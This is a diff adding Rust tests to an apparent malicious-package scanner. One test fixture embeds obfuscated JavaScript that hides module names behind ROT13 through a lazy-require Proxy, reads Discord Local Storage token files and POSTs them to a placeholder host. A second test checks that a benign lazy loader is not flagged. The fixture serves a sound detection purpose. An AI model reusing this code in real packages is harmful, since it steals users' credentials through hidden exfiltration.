@@ -459,4 +459,36 @@ mod tests {
             vec![("steal.js".to_string(), 4)]
         );
     }
+
+    /// Modules reached through a lazy-require `Proxy` whose trap ROT13-decodes the property
+    /// name (`$.sf` is `fs`, `$.uggcf` is `https`).
+    #[test]
+    fn positive_lazy_require_proxy_rot13() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const rot = (s) => s.replace(/[a-z]/g, (c) => String.fromCharCode((c.charCodeAt(0) - 84) % 26 + 97));\nfunction lazy(resolve) {\n  const cache = {};\n  return new Proxy({}, { get(_t, key) { if (!(key in cache)) cache[key] = require(resolve(key)); return cache[key]; } });\n}\nconst $ = lazy(rot);\nconst dir = $.cngu.join($.bf.homedir(), '.config', 'discord', 'Local Storage', 'leveldb');\nfor (const f of $.sf.readdirSync(dir)) {\n  const t = $.sf.readFileSync($.cngu.join(dir, f), 'latin1');\n  $.uggcf.request({ hostname: 'api.example.invalid', method: 'POST' }).end(t);\n}\n",
+            ),
+        ]);
+        assert!(!hits(&s, "code/credential-theft").is_empty());
+        assert_ne!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// import-lazy style: a lazy loader of plain names used for ordinary file reads.
+    #[test]
+    fn negative_plain_lazy_loader() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const lazy = () => new Proxy({}, { get: (_t, k) => require(k) });\nconst $ = lazy();\nexports.read = (p) => $.fs.readFileSync($.path.join(p, 'package.json'), 'utf8');\n",
+            ),
+        ]);
+        assert!(
+            s.findings
+                .iter()
+                .all(|f| f.severity <= diligence_finding::Severity::Low)
+        );
+    }
 }
